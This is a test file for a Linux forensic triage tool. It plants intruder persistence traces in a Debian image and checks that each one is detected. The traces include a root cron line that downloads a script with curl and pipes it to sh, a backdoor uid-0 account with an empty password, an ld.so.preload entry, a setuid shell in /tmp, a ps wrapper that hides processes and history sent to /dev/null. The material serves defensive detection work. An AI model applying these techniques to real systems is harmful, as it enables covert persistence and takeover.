import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { appendFileSync, chmodSync, lstatSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, renameSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { after, before, test } from 'node:test';
import { COLLECTORS } from '../../src/collectors/index.js';
import { encodeHostPath } from '../../src/lib/host-path.js';
import { ED25519_FP } from '../fixtures/persistence-b/plant.js';
import { PROJECT, readFindings, runCli } from '../helpers.js';

/**
 * `goldhour triage --root` of a real Debian system: debootstrap's minbase of
 * this machine's suite with sshd, cron, nginx, sudo, systemd and rsyslog (built
 * once and cached by scripts/make-debian-image.sh): first as debootstrap left it
 * (no high or critical finding), then with what an intruder leaves planted in
 * it (a private copy).
 */

type Row = Record<string, unknown>;
const sha256 = (b: Buffer | string) => createHash('sha256').update(b).digest('hex');
const md5 = (b: Buffer) => createHash('md5').update(b).digest('hex');
const fixture = (rel: string) => readFileSync(path.join(PROJECT, 'test/fixtures', rel));

/**
 * Collectors that give no rows on a mounted image, each with the words of its
 * own preconditions that say so (checked below, so the list cannot drift from them).
 */
const LIVE_ONLY: Record<string, string> = {
  processes: 'With --root and no --proc there are no processes and the collector yields nothing.',
  sockets: 'On --root without --proc there are no sockets.',
  interfaces: 'An image (--root) without /proc gives no rows.',
  sessions: 'utmp lives on tmpfs: on a dead box it is usually gone.',
  bpf: 'Gives nothing on a mounted image.',
  'file-attributes': 'On --root nothing is checked (recorded as an error).',
};
/** What a --root run cannot check, recorded as errors by design. */
const EXPECTED_ERRORS = [
  ['file-attributes', 'ENOTCHECKED'],
  ['file-scan', 'ENOTCHECKED'],
];

const DOCKER_ID = '5e1f7a9c3b2d4e6f8a0b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c0d1e2f';
const UNIT = '/etc/systemd/system/dbus-org.freedesktop.helper.service';
const UNIT_LINK = '/etc/systemd/system/multi-user.target.wants/dbus-org.freedesktop.helper.service';
const PRELOAD_LIB = '/usr/local/lib/libkeyutils.so.1.9';
const SUID = '/tmp/.ICE-unix/.sh';
const KWORKER = '/dev/shm/.helper/kworker';
const NON_UTF8_TMP = Buffer.concat([Buffer.from('/tmp/.'), Buffer.from([0xff, 0xfe]), Buffer.from('.sh')]);
const NON_UTF8_CRON = Buffer.concat([Buffer.from('/etc/cron.d/'), Buffer.from([0xe9, 0x74, 0xe9])]);
const PS_WRAPPER = '#!/bin/sh\n/usr/lib/x86_64-linux-gnu/.ps "$@" | grep -v -e kworker -e .helper\n';
const CRON_D_LINE = '*/10 * * * * root /dev/shm/.helper/kworker\n';
const AUTH_LOG =
  'Nov 22 23:58:01 web01 sshd[7001]: Failed password for invalid user oracle from 198.51.100.23 port 40022 ssh2\n' +
  'Nov 23 03:00:00 web01 sshd[5001]: Accepted password for toor from 198.51.100.9 port 50022 ssh2\n' +
  'Nov 23 03:00:00 web01 sshd[5001]: pam_unix(sshd:session): session opened for user toor(uid=0) by (uid=0)\n';

/**
 * Executables in temp places are described and hashed in rows, not copied; the replaced ps is copied under the
 * path its package names (/bin/ps, through the merged-/usr link), checked with the packages rows.
 */
const DESCRIBED_ONLY = new Set([SUID, encodeHostPath(NON_UTF8_TMP).text, KWORKER, '/usr/bin/ps']);

/** Bytes of what was planted, by host path (base64): each comes back as a raw copy with its SHA-256, or hashed in rows. */
const planted = new Map<string, Buffer>();

function put(root: string, hostPath: string | Buffer, data: Buffer | string, mode?: number): void {
  const raw = typeof hostPath === 'string' ? Buffer.from(hostPath) : hostPath;
  const full = Buffer.concat([Buffer.from(root), raw]);
  mkdirSync(Buffer.concat([Buffer.from(root), raw.subarray(0, raw.lastIndexOf(0x2f))]).toString(), { recursive: true });
  writeFileSync(full, data);
  if (mode !== undefined) chmodSync(full, mode);
  planted.set(raw.toString('base64'), Buffer.from(data));
}

function link(root: string, hostPath: string, target: string): void {
  mkdirSync(path.dirname(path.join(root, hostPath)), { recursive: true });
  symlinkSync(target, path.join(root, hostPath));
}

/** What an intruder leaves on a Debian server, planted into the image at `root`. */
function plant(root: string): void {
  // Settled like an installed system rather than a fresh debootstrap.
  put(root, '/etc/hostname', 'web01\n');
  put(root, '/etc/fstab', 'UUID=0a3c5e7f-1b2d-4c6e-8f0a-1b2c3d4e5f60 / ext4 errors=remount-ro 0 1\nUUID=9f8e-7d6c /boot/efi vfat umask=0077 0 1\n');

  // cron: a root crontab written through Redis (binary dump around a curl|sh line); a cron.d file whose name is not UTF-8
  put(root, '/var/spool/cron/crontabs/root', fixture('persistence-a/redis-crontab.bin'), 0o600);
  put(root, NON_UTF8_CRON, CRON_D_LINE, 0o644);

  // systemd: a service enabled through its .wants link, run from /dev/shm
  put(
    root,
    UNIT,
    '[Unit]\nDescription=D-Bus helper\nAfter=network-online.target\n\n[Service]\nType=simple\n' +
      'ExecStart=/dev/shm/.helper/kworker -c /dev/shm/.helper/c.json\nRestart=always\nRestartSec=30\n\n[Install]\nWantedBy=multi-user.target\n',
  );
  link(root, UNIT_LINK, UNIT);
  put(root, KWORKER, readFileSync(path.join(root, 'usr/bin/true')), 0o755);

  // init: rc.local, run by systemd's rc-local generator when executable
  put(root, '/etc/rc.local', '#!/bin/sh -e\n/usr/bin/nohup /dev/shm/.helper/kworker >/dev/null 2>&1 &\nexit 0\n', 0o755);

  // loader: ld.so.preload naming a library that was dropped beside the real ones
  put(root, '/etc/ld.so.preload', `${PRELOAD_LIB}\n`);
  put(root, PRELOAD_LIB, readFileSync(path.join(root, 'usr/lib/x86_64-linux-gnu/libc.so.6')).subarray(0, 4096), 0o644);

  // keys: authorized_keys2, still read by Debian's sshd default
  put(root, '/root/.ssh/authorized_keys2', `${fixture('persistence-b/authorized_keys').toString().split('\n')[1]}\n`, 0o600);

  // accounts: a second uid 0 with an empty password
  appendFileSync(path.join(root, 'etc/passwd'), 'toor:x:0:0::/root:/bin/bash\n');
  appendFileSync(path.join(root, 'etc/shadow'), 'toor::20415:0:99999:7:::\n');
  planted.set(Buffer.from('/etc/passwd').toString('base64'), readFileSync(path.join(root, 'etc/passwd')));
  planted.set(Buffer.from('/etc/shadow').toString('base64'), readFileSync(path.join(root, 'etc/shadow')));

  // files: a set-uid shell copy in a hidden /tmp directory; a script whose name is not UTF-8
  put(root, SUID, readFileSync(path.join(root, 'usr/bin/bash')), 0o4755);
  put(root, NON_UTF8_TMP, '#!/bin/sh\nexec /dev/shm/.helper/kworker\n', 0o755);

  // packages: ps replaced by a wrapper that hides the miner (procps records it as bin/ps: /bin is a link to usr/bin)
  renameSync(path.join(root, 'usr/bin/ps'), path.join(root, 'usr/lib/x86_64-linux-gnu/.ps'));
  put(root, '/usr/bin/ps', PS_WRAPPER, 0o755);

  // logins and logs: wtmp and btmp records (written by util-linux utmpdump), an auth.log, root's history sent to /dev/null
  put(root, '/var/log/wtmp', fixture('accounts-logs/wtmp.bin'), 0o664);
  put(root, '/var/log/btmp', fixture('accounts-logs/btmp.bin'), 0o660);
  put(root, '/var/log/auth.log', AUTH_LOG, 0o640);
  rmSync(path.join(root, 'root/.bash_history'), { force: true });
  link(root, '/root/.bash_history', '/dev/null');

  // what else a Debian server carries: a persisted firewall, a binfmt handler from /tmp, a privileged container
  put(root, '/etc/iptables/rules.v4', fixture('net/firewall/rules.v4'));
  put(root, '/etc/binfmt.d/jpg.conf', ':jpg:E::jpg::/tmp/.x/run:\n');
  const dc = `/var/lib/docker/containers/${DOCKER_ID}`;
  put(root, `${dc}/config.v2.json`, fixture('files-packages/docker/config.v2.json').toString().replaceAll(/3f1c0ffee0b5a7d1[0-9a-f]{48}/g, DOCKER_ID));
  put(root, `${dc}/hostconfig.json`, fixture('files-packages/docker/hostconfig.json'));
}

let root = '';
let work = '';
let unavailable: string | null = null;
/** What make-debian-image.sh said: whether the image came from the cache or how long debootstrap took. */
let imageNote = '';

before(async () => {
  work = mkdtempSync(path.join(os.tmpdir(), 'goldhour-rootimg-'));
  root = path.join(work, 'image');
  const made = await runCli([path.join(PROJECT, 'scripts/make-debian-image.sh'), root], { exe: 'bash' });
  if (made.code !== 0) {
    const why = `scripts/make-debian-image.sh exited ${made.code}: ${made.stderr.trim().split('\n').slice(-8).join(' | ')}`;
    // exit 2: no root or no debootstrap; exit 3: the Debian mirror could not be reached
    if (process.env.CI !== 'true' && (made.code === 2 || made.code === 3)) {
      unavailable = why;
      return;
    }
    throw new Error(`no Debian image for the --root triage: ${why}`);
  }
  imageNote = made.stderr.trim();
});

/** The image is triaged clean first, then planted once for the tests that follow. */
let isPlanted = false;
function ensurePlanted(): void {
  if (isPlanted) return;
  plant(root);
  isPlanted = true;
}
after(() => rmSync(work, { recursive: true, force: true }));

function readRows(out: string, name: string): Row[] {
  return readdirSync(path.join(out, 'collectors'))
    .filter((f) => f === `${name}.jsonl` || new RegExp(`^${name}\\.\\d+\\.jsonl$`).test(f))
    .flatMap((f) => readFileSync(path.join(out, 'collectors', f), 'utf8').split('\n').filter(Boolean).map((l) => JSON.parse(l) as Row));
}

function walkFiles(dir: string): string[] {
  return readdirSync(dir).flatMap((n) => {
    const p = path.join(dir, n);
    return lstatSync(p).isDirectory() ? walkFiles(p) : [p];
  });
}

/** The one row matching every given field. */
function one(rows: Row[], match: Row): Row {
  const hits = rows.filter((r) => Object.entries(match).every(([k, v]) => r[k] === v));
  assert.equal(hits.length, 1, `${JSON.stringify(match)}: ${hits.length} rows`);
  return hits[0]!;
}

test('a clean Debian install (debootstrap with sshd, cron, nginx, sudo) gives no high or critical finding', async (t) => {
  if (unavailable) return t.skip(unavailable);
  if (imageNote) t.diagnostic(imageNote);
  assert.ok(!isPlanted, 'runs on the image as debootstrap left it');
  const out = path.join(work, 'clean');
  const res = await runCli(['triage', '--root', root, '--out', out, '--json', '-q']);
  assert.equal(res.code, 0, res.stderr);
  const doc = JSON.parse(res.stdout.toString()) as { findings: { id: string; severity: string; evidence: { path: string | null } }[]; verdict: { verdict: string } };
  const serious = doc.findings.filter((f) => f.severity === 'high' || f.severity === 'critical').map((f) => [f.id, f.evidence.path]);
  assert.deepEqual(serious, []);
  assert.equal(doc.verdict.verdict, 'clean', JSON.stringify(doc.findings.map((f) => [f.severity, f.id, f.evidence.path])));
  t.diagnostic(`findings on the clean image: ${doc.findings.map((f) => `${f.severity} ${f.id}`).join(', ') || 'none'}`);
  rmSync(out, { recursive: true, force: true });
});

test('--root triage of a Debian image: every collector, every planted trace, raw copies hashed, verify', async (t) => {
  if (unavailable) return t.skip(unavailable);
  if (imageNote) t.diagnostic(imageNote);
  ensurePlanted();
  const out = path.join(work, 'case');
  const res = await runCli(['triage', '--root', root, '--out', out, '--bodyfile', '/etc', '--case', 'IR-ROOTIMG']);
  assert.equal(res.code, 0, res.stderr);
  const m = JSON.parse(readFileSync(path.join(out, 'manifest.json'), 'utf8'));
  assert.equal(m.status, 'complete');
  assert.equal(m.host.live, false);

  // every collector ran; each produced rows unless its preconditions say it needs a live host
  assert.deepEqual(m.collectors.map((c: Row) => c.name).sort(), COLLECTORS.map((c) => c.name).sort());
  for (const c of COLLECTORS) {
    const run = m.collectors.find((r: Row) => r.name === c.name);
    assert.equal(run.status, 'ok', `${c.name}: ${JSON.stringify(m.errors.filter((e: Row) => e.collector === c.name))}`);
    if (c.name in LIVE_ONLY) {
      assert.ok(c.preconditions.includes(LIVE_ONLY[c.name]!), `${c.name}'s preconditions no longer say: ${LIVE_ONLY[c.name]}`);
      assert.equal(run.rows, 0, `${c.name} gave rows on an image`);
    } else {
      assert.ok(run.rows > 0, `${c.name} gave no rows on a Debian image`);
    }
    assert.equal(readRows(out, c.name).length, run.rows, c.name);
  }
  assert.deepEqual(m.errors.map((e: Row) => [e.collector, e.code]).sort(), EXPECTED_ERRORS, JSON.stringify(m.errors, null, 1));

  // rows, findings, copies and the manifest's entries name host paths, never the directory the image sits in
  // (only the command line and the manifest's host.root say where it was)
  for (const f of walkFiles(out).map((p) => path.relative(out, p))) {
    if (f !== 'manifest.json' && f !== 'custody.jsonl') assert.ok(!readFileSync(path.join(out, f)).includes(root), `${f} names ${root}`);
  }
  for (const a of m.artifacts) assert.ok(!String(a.source).includes(root) && !a.path.includes(root.slice(1)), a.path);
  for (const e of m.errors) assert.ok(!String(e.path).includes(root) && !String(e.message).includes(root), JSON.stringify(e));

  const rows = Object.fromEntries(COLLECTORS.map((c) => [c.name, readRows(out, c.name)]));

  const system = rows.system![0]!;
  assert.deepEqual([system.hostname, system.osId, system.osVersionId, system.kernelRelease], ['web01', 'debian', readFileSync(path.join(root, 'etc/os-release'), 'utf8').match(/^VERSION_ID="(.*)"$/m)?.[1], null]);
  assert.ok(rows.mounts!.some((r) => r.origin === 'fstab' && r.mountPoint === '/' && r.fsType === 'ext4'), JSON.stringify(rows.mounts!.slice(0, 3)));

  const cron = one(rows.cron!, { file: '/var/spool/cron/crontabs/root', kind: 'job' });
  assert.deepEqual([cron.schedule, cron.user, cron.command], ['*/1 * * * *', 'root', 'curl -fsSL http://203.0.113.9/x.sh | sh']);
  assert.ok((cron.junkBytes as number) > 0 && (cron.nulBytes as number) > 0, JSON.stringify(cron));
  const cronD = one(rows.cron!, { fileBase64: NON_UTF8_CRON.toString('base64'), kind: 'job' });
  assert.deepEqual([cronD.file, cronD.command, cronD.user], ['/etc/cron.d/%E9t%E9', '/dev/shm/.helper/kworker', 'root']);
  assert.ok(rows.cron!.some((r) => r.file === '/etc/cron.daily/dpkg' && r.kind === 'script'), 'the image\'s own cron.daily');

  const unit = one(rows.systemd!, { path: UNIT, kind: 'unit' });
  assert.deepEqual([unit.effective, unit.enabledBy, unit.description], [true, [UNIT_LINK], 'D-Bus helper']);
  const exec = one(rows.systemd!, { path: UNIT, kind: 'exec' });
  assert.deepEqual([exec.key, exec.program, exec.args, exec.active], ['ExecStart', '/dev/shm/.helper/kworker', ['-c', '/dev/shm/.helper/c.json'], true]);
  const wants = one(rows.systemd!, { path: UNIT_LINK, kind: 'link' });
  assert.deepEqual([wants.wantedBy, wants.relation, wants.linkFinal, wants.linkExists], ['multi-user.target', 'wants', UNIT, true]);
  for (const u of rows.systemd!.filter((r) => r.kind === 'unit')) assert.equal(new Set(u.enabledBy as string[]).size, (u.enabledBy as string[]).length, `${u.path}: ${JSON.stringify(u.enabledBy)}`);
  assert.ok(rows.systemd!.some((r) => r.kind === 'unit' && r.unit === 'ssh.service' && (r.enabledBy as string[]).length > 0), 'the image\'s own sshd is enabled');

  const rcLocal = one(rows['init-scripts']!, { path: '/etc/rc.local', kind: 'rc-local' });
  assert.equal(rcLocal.executable, true);
  assert.ok(rows['init-scripts']!.some((r) => r.kind === 'rc-local-line' && String(r.raw).includes('/dev/shm/.helper/kworker')), JSON.stringify(rows['init-scripts']!.slice(0, 3)));

  const preload = one(rows.preload!, { kind: 'preload', value: PRELOAD_LIB });
  assert.deepEqual([preload.source, preload.exists, preload.sha256], ['/etc/ld.so.preload', true, sha256(planted.get(Buffer.from(PRELOAD_LIB).toString('base64'))!)]);
  const hidden = one(rows['hidden-processes']!, { kind: 'ld-so-preload' });
  assert.deepEqual([hidden.entries, hidden.loadedIntoGoldhour], [[PRELOAD_LIB], null]);

  const key = one(rows['ssh-keys']!, { path: '/root/.ssh/authorized_keys2', kind: 'key' });
  assert.deepEqual([key.fingerprint, key.readBySshd], [ED25519_FP, true]);
  assert.ok((key.users as string[]).includes('root') && (key.users as string[]).includes('toor'), JSON.stringify(key.users));

  const toor = one(rows.accounts!, { kind: 'account', name: 'toor' });
  assert.deepEqual([toor.uid, toor.passwordState, toor.sameId, toor.loginShell], [0, 'empty', ['root'], true]);

  const suidHash = sha256(planted.get(Buffer.from(SUID).toString('base64'))!);
  const tmp = one(rows['temp-files']!, { path: SUID });
  assert.deepEqual([tmp.perm, tmp.contentKind, tmp.sha256, tmp.inHiddenDir], ['4755', 'elf', suidHash, true]);
  const odd = one(rows['temp-files']!, { pathBase64: NON_UTF8_TMP.toString('base64') });
  assert.deepEqual([odd.path, odd.contentKind, odd.interpreter, odd.sha256], ['/tmp/.%FF%FE.sh', 'script', '/bin/sh', sha256(planted.get(NON_UTF8_TMP.toString('base64'))!)]);
  assert.equal(one(rows['temp-files']!, { path: KWORKER }).sha256, sha256(planted.get(Buffer.from(KWORKER).toString('base64'))!));
  assert.deepEqual(one(rows['file-scan']!, { path: SUID }).reasons, ['setuid']);
  assert.ok(rows['file-scan']!.some((r) => r.path === '/usr/bin/sudo' && (r.reasons as string[]).includes('setuid')), 'the image\'s own sudo');

  // the scenario figure: each planted technique found by the right rule at the right host path
  const findings = readFindings(out);
  const scenario: [string, string][] = [
    ['persistence.cron.download-exec', '/var/spool/cron/crontabs/root'],
    ['persistence.cron.temp-exec', encodeHostPath(NON_UTF8_CRON).text],
    ['persistence.systemd.temp-exec', UNIT],
    ['persistence.rc.temp-exec', '/etc/rc.local'],
    ['persistence.ld-so-preload', '/etc/ld.so.preload'],
    ['persistence.ssh.authorized-keys2', '/root/.ssh/authorized_keys2'],
    ['persistence.binfmt.odd-interpreter', '/etc/binfmt.d/jpg.conf'],
    ['accounts.uid0-extra', '/etc/passwd'],
    ['accounts.empty-password', '/etc/passwd'],
    ['files.setid-temp-or-home', SUID],
    ['files.exec-hidden-in-temp', KWORKER],
    ['files.exec-hidden-in-temp', encodeHostPath(NON_UTF8_TMP).text],
    ['files.package-rootkit-target-changed', '/bin/ps'],
    ['files.history-to-null', '/root/.bash_history'],
    ['containers.host-access', `/var/lib/docker/containers/${DOCKER_ID}/config.v2.json`],
  ];
  const missed = scenario.filter(([id, p]) => !findings.some((f) => f.id === id && f.evidence.path === p));
  t.diagnostic(`scenario: ${scenario.length - missed.length} of ${scenario.length} planted techniques found by rule and path`);
  assert.ok((scenario.length - missed.length) / scenario.length >= 0.95, `missed ${JSON.stringify(missed)}; found ${JSON.stringify(findings.map((f) => [f.id, f.evidence.path]))}`);
  const ps = one(rows.packages!, { kind: 'file', path: '/bin/ps' });
  assert.equal(ps.copied, true);
  const psCopy = m.artifacts.find((a: Row) => a.path === 'files/bin/ps');
  assert.equal(psCopy?.sha256, sha256(PS_WRAPPER), 'the replaced ps itself is in the bundle');
  assert.deepEqual([ps.package, ps.result, ps.actualMd5], ['procps', 'changed', md5(Buffer.from(PS_WRAPPER))]);
  assert.deepEqual(rows.packages!.filter((r) => r.kind === 'file').map((r) => r.path), ['/bin/ps'], 'nothing else of a fresh image differs');
  assert.ok(rows.packages!.some((r) => r.kind === 'package' && r.package === 'openssh-server' && r.status === 'install ok installed'), JSON.stringify(rows.packages!.slice(0, 3)));

  const login = one(rows.logins!, { source: '/var/log/wtmp', kind: 'record', user: 'toor' });
  assert.deepEqual([login.recordType, login.host, login.time], ['USER_PROCESS', '198.51.100.9', '2026-11-01T03:00:00.000Z']);
  assert.equal(one(rows.logins!, { source: '/var/log/btmp', kind: 'record', user: 'oracle' }).line, 'ssh:notty');
  assert.match(String(one(rows.logins!, { source: '/var/log/lastlog', kind: 'file' }).note), /^empty/, 'Debian installs lastlog empty');

  const auth = one(rows.logs!, { path: '/var/log/auth.log', kind: 'file' });
  assert.deepEqual([auth.copied, auth.lineCount, auth.timeFormat, auth.yearInferred], [true, 3, 'rfc3164', true]);

  const hist = one(rows['shell-history']!, { path: '/root/.bash_history' });
  assert.deepEqual([hist.kind, hist.linkTarget, hist.targetKind, hist.copied], ['symlink', '/dev/null', 'char-device', false]);

  assert.ok(rows.firewall!.some((r) => r.source === '/etc/iptables/rules.v4' && String(r.text).includes('--to-ports 31337')), JSON.stringify(rows.firewall!.slice(0, 3)));
  assert.ok(rows.binfmt!.some((r) => r.kind === 'registration' && r.interpreter === '/tmp/.x/run'), JSON.stringify(rows.binfmt));
  const container = one(rows.containers!, { kind: 'container', id: DOCKER_ID });
  assert.deepEqual([container.runtime, container.privileged, container.pidMode], ['docker', true, 'host']);
  assert.ok(rows.pam!.some((r) => r.kind === 'rule' && r.module === 'pam_unix.so' && r.modulePath === '/lib/x86_64-linux-gnu/security/pam_unix.so' && r.moduleSha256 !== null), JSON.stringify(rows.pam!.slice(0, 3)));
  assert.ok(rows.sudoers!.some((r) => r.kind === 'spec' && r.path === '/etc/sudoers' && String(r.raw).startsWith('%sudo')), JSON.stringify(rows.sudoers!.slice(0, 3)));
  assert.ok(rows.exposure!.some((r) => r.area === 'sshd' && r.setting === 'PermitRootLogin'), JSON.stringify(rows.exposure!.slice(0, 3)));
  assert.ok(rows.bodyfile!.some((r) => r.path === '/etc/ld.so.preload'), JSON.stringify(rows.bodyfile!.slice(0, 3)));

  // raw copies of everything planted that a collector reads, under files/<host path>, hashed in the manifest
  const copies = new Map<string, Row>(m.artifacts.map((a: Row) => [a.path, a]));
  for (const [hostPath64, bytes] of planted) {
    const encoded = encodeHostPath(Buffer.from(hostPath64, 'base64'));
    const shown = encoded.text;
    if (DESCRIBED_ONLY.has(shown)) continue;
    const a = copies.get(`files${shown}`);
    assert.ok(a, `no raw copy of ${shown}`);
    assert.equal(a.source, shown);
    assert.equal(a.sourceBase64, encoded.base64, `${shown}: the raw name is kept where it is not UTF-8`);
    assert.equal(a.sha256, sha256(bytes), String(a.path));
    assert.deepEqual(readFileSync(path.join(out, String(a.path))), bytes, String(a.path));
  }
  for (const a of m.artifacts) assert.equal(a.sha256, sha256(readFileSync(path.join(out, a.path))), a.path);
  const listed = new Set(m.artifacts.map((a: Row) => a.path));
  for (const f of walkFiles(out).map((p) => path.relative(out, p))) if (f !== 'manifest.json') assert.ok(listed.has(f), `${f} is not in the manifest`);

  const v = await runCli(['verify', out]);
  assert.equal(v.code, 0, v.stdout.toString());
  assert.match(v.stdout.toString(), /^INTACT  dir/);
});

test('--root triage of the Debian image as a tar archive verifies', async (t) => {
  if (unavailable) return t.skip(unavailable);
  ensurePlanted();
  const out = path.join(work, 'case.tar');
  const res = await runCli(['triage', '-q', '--root', root, '--format', 'tar', '--out', out]);
  assert.equal(res.code, 0, res.stderr);
  const v = await runCli(['verify', out, '--json']);
  assert.equal(v.code, 0, v.stdout.toString());
  const report = JSON.parse(v.stdout.toString());
  assert.deepEqual([report.status, report.container, report.manifest.status], ['intact', 'tar', 'complete'], v.stdout.toString());
  const files = new Map<string, string>(report.files.map((f: Row) => [f.path, f.state]));
  for (const c of COLLECTORS) assert.equal(files.get(`collectors/${c.name}.jsonl`), 'ok', c.name);
  for (const p of ['files/var/spool/cron/crontabs/root', `files${UNIT}`, 'files/etc/ld.so.preload', 'files/var/log/wtmp']) assert.equal(files.get(p), 'ok', p);
});
